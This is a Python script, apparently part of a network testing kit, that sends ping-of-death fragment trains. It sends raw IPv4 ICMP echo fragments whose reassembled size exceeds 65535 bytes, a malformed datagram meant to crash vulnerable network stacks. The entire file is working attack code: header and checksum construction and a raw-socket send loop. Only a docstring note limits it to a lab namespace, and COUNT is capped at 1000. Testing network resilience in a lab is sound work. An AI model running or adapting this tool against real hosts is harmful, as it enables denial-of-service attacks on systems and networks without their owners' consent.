#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends ping-of-death fragment trains: ICMP echo fragments that reassemble past 65535 bytes.

Run only inside a lab namespace (icmpkit lab exec NODE -- guard_pod.py ...).
  guard_pod.py SRC DST COUNT
Each train is two IPv4 fragments of one echo request (RFC 791 3.1): the
first at offset 0 with More Fragments set and 1480 bytes of ICMP, the last
at offset 65520 with 100 bytes, so offset*8 + length = 65620 > 65535, the
datagram of the 1996 ping of death. Prints the number of fragments sent.
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def fragment(src, dst, ident, frag_field, payload):
    total = 20 + len(payload)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, ident, frag_field, 64,
                      socket.IPPROTO_ICMP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + payload


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if not 1 <= count <= 1000:
        sys.exit("COUNT must be 1..1000")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for i in range(count):
        ident = 0x4000 + i
        # The checksum cannot be right for a datagram that cannot exist; it
        # is computed over the first fragment only.
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x1ce, i) + b"P" * 1472
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        first = fragment(src, dst, ident, 0x2000, icmp)
        last = fragment(src, dst, ident, 65520 // 8, b"D" * 100)
        for pkt in (first, last):
            s.sendto(pkt, (dst, 0))
            sent += 1
    print(sent)


if __name__ == "__main__":
    main()
